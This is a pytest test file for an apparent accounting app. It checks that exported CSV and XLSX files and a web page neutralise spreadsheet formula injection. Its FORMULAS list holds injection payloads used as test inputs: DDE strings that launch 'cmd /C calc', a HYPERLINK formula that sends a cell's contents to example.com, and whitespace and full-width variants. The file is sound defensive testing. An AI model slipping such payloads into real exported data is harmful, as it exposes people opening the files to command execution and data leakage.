"""The files to download, opened as a spreadsheet would: nothing that came from elsewhere is a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest

from kontobro.web.models import ConnectionOwner
from pleo_sandbox.model import Expense
from tests.support.connected_home import a_connected_home
from tests.support.pleo_company import a_company, an_item
from tests.support.site import Site
from tests.web.connected_site import ConnectedSite

PERIOD = "first=2026-10-01&last=2026-10-31"
FORMULAS = (
    '=HYPERLINK("https://example.com/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    '"=1+1","=2+2"',
    "a;=1+1",
    "{=1+1}",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What makes a program read a cell as a formula, in full width too; a minus also begins a figure."""


@pytest.fixture
def connected(site: Site) -> Iterator[ConnectedSite]:
    """Every formula once as a payee that is booked, once as an account that no books have."""
    good = [Expense(an_item(n, supplier={"name": text, "account": None})) for n, text in enumerate(FORMULAS, 1)]
    bad = [Expense(unknown(n, text)) for n, text in enumerate(FORMULAS, 101)]
    with a_connected_home(site.app.path, a_company(*good, *bad)) as connected:
        organisation = site.organisation()
        connection = site.app.store.connections()[0]
        ConnectionOwner.objects.create(organisation=organisation, connection_id=connection.id)
        opened = ConnectedSite(site, connected, organisation, connection, site.browser(site.member(organisation)))
        opened.export()
        yield opened


def unknown(number: int, text: str) -> dict[str, Any]:
    item = an_item(number)
    item["accountingEntryLines"][0]["account"] = {"id": text, "code": text, "name": text}
    return item


def download(connected: ConnectedSite, kind: str) -> bytes:
    answer = connected.browser.get(f"/c/{connected.connection.id}/tie-out/entries.{kind}?{PERIOD}")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith("attachment")
    content = b"".join(answer.streaming_content)  # type: ignore[attr-defined]
    answer.close()
    return content


def is_figure(text: str) -> bool:
    return text.removeprefix("-").replace(".", "", 1).isdecimal()


def test_no_cell_of_the_csv_is_a_formula(connected: ConnectedSite) -> None:
    rows = list(csv.reader(io.StringIO(download(connected, "csv").decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + 2 * len(FORMULAS)
    assert {len(row) for row in rows} == {len(rows[0])}
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(STARTS) and not is_figure(cell)] == []
    payees = [row[rows[0].index("payee")] for row in rows[1:]]
    assert all(any(text.strip() in payee for payee in payees) for text in FORMULAS)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link_of_its_own(connected: ConnectedSite) -> None:
    book = openpyxl.load_workbook(io.BytesIO(download(connected, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert {cell.hyperlink.target for cell in cells if cell.hyperlink} <= {
        f"https://app.example.com/expenses/{number}" for number in range(200)
    }
    texts = {str(cell.value) for cell in cells}
    assert FORMULAS[0] in {text.removeprefix("'") for text in texts}


def test_the_page_shows_them_as_text(connected: ConnectedSite) -> None:
    page = connected.page(f"tie-out/compared/?{PERIOD}")
    assert "=HYPERLINK(&quot;https://example.com" in page
    assert '=HYPERLINK("' not in page
